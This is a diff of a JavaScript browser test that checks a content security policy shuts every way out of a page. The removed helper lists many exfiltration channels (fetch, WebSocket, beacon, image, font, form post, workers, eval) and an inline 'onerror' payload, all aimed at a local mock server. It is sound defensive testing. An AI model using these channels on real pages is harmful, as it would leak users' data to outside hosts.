@@ -1,59 +1,10 @@
 // Nothing leaves: attempts to send something out are made, and fail, on a server that sends no policy of its own.
-import { createServer } from 'node:http';
 import { readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
-import { test, ok, equal, afterAll } from '../support/harness.mjs';
+import { attempts, elsewhere } from '../support/ways_out.mjs';
+import { test, ok, equal } from '../support/harness.mjs';
 import { open } from '../support/page.mjs';
 import { mockSite, serve, web } from '../support/site.mjs';
-
-/** A server that should never be asked. It would let anybody read its answers. */
-async function elsewhere() {
-  const asked = [];
-  const server = createServer((req, res) => { asked.push(req.url); res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end(''); });
-  server.on('upgrade', (req, socket) => { asked.push(`socket ${req.url}`); socket.destroy(); });
-  await new Promise((r) => server.listen(0, '127.0.0.1', r));
-  afterAll(() => { server.closeAllConnections(); server.close(); });
-  return { url: `http://127.0.0.1:${server.address().port}/`, asked };
-}
-
-/** All the ways out that a script in the page could try. */
-const attempts = async (target) => {
-  const out = {};
-  const event = (el, where = document.body) => new Promise((yes, no) => { el.onload = () => yes('loaded'); el.onerror = () => no(new Error('blocked')); where.append(el); setTimeout(() => no(new Error('silent')), 1500); });
-  const make = (tag, props) => Object.assign(document.createElement(tag), props);
-  const tries = {
-    fetch: () => fetch(`${target}fetch?secret`, { mode: 'no-cors' }),
-    xhr: () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open('GET', `${target}xhr?secret`); x.onload = yes; x.onerror = no; x.send(); }),
-    socket: () => new Promise((yes, no) => { const s = new WebSocket(`${target.replace('http', 'ws')}socket`); s.onopen = yes; s.onerror = no; }),
-    events: () => new Promise((yes, no) => { const s = new EventSource(`${target}events`); s.onopen = yes; s.onerror = no; }),
-    image: () => event(make('img', { src: `${target}image?secret` })),
-    style: () => event(make('link', { rel: 'stylesheet', href: `${target}style?secret` }), document.head),
-    preload: () => event(make('link', { rel: 'preload', as: 'image', href: `${target}preload?secret` }), document.head),
-    media: () => event(make('audio', { src: `${target}media?secret`, preload: 'auto' })),
-    font: () => new FontFace('x', `url(${target}font?secret)`).load(),
-    import: () => import(`${target}import.js?secret`),
-    script: () => event(make('script', { src: `${target}script.js?secret` })),
-    inline: () => { const s = document.createElement('script'); s.textContent = 'globalThis.inlined = 1'; document.head.append(s); if (!globalThis.inlined) throw new Error('blocked'); },
-    eval: () => { (0, eval)('1'); },
-    function: () => { new Function('return 1')(); },
-    innerHTML: () => { document.createElement('div').innerHTML = '<img src=x onerror=1>'; },
-    worker: () => { new Worker(`${target}worker.js`); },
-    blobWorker: () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))); w.onmessage = yes; w.onerror = no; }),
-    policy: () => { trustedTypes.createPolicy('mine', { createHTML: (x) => x }); },
-    base: () => { document.head.append(make('base', { href: target })); if (!document.baseURI.startsWith(target)) throw new Error('blocked'); },
-  };
-  for (const [name, fn] of Object.entries(tries)) {
-    try { await fn(); out[name] = 'went through'; } catch { out[name] = 'blocked'; }
-  }
-  // These say nothing about what became of them.
-  document.body.append(make('iframe', { src: `${target}frame?secret` }));
-  navigator.sendBeacon?.(`${target}beacon?secret`, 'secret');
-  const form = make('form', { action: `${target}form`, method: 'post', target: '_self' });
-  document.body.append(form);
-  form.submit();
-  await new Promise((r) => setTimeout(r, 600));
-  return out;
-};
 
 test('policy: every way out of the page is shut', async (t) => {
   const other = await elsewhere();
